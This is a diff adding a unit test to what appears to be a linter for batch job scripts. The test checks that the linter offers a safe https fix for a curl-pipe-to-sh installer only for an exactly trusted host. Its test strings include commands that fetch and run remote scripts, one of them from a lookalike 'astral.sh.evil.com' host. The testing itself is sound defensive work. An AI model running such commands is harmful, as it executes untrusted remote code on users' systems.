@@ -383,6 +383,21 @@ describe('reasons', () => {
   });
 });
 
+describe('fixes', () => {
+  const edits = (body: string, site: SiteSection): number =>
+    check(job(body), 'job.sbatch', withSite(site))
+      .findings.filter(({ rule }) => rule === 'JV301')
+      .flatMap(({ fix }) => (fix?.safety === 'safe' ? fix.edits : [])).length;
+
+  it('fetches installers of trusted hosts over https', () => {
+    const site = { 'trusted-installers': ['astral.sh'] };
+    expect(edits('curl -L http://astral.sh/uv/install.sh | sh', site)).toBe(1);
+    expect(edits('curl -L http://astral.sh:8080/uv/install.sh | sh', site)).toBe(0);
+    expect(edits('curl -L http://astral.sh.evil.com/install.sh | sh', site)).toBe(0);
+    expect(edits('curl -L http://astral.sh/uv/install.sh | sh', {})).toBe(0);
+  });
+});
+
 describe('what is allowed instead', () => {
   const message = (body: string, site: SiteSection = {}): string =>
     check(job(body), 'job.sbatch', withSite(site)).findings.find(({ rule }) => rule === 'JV312')?.message ?? '';
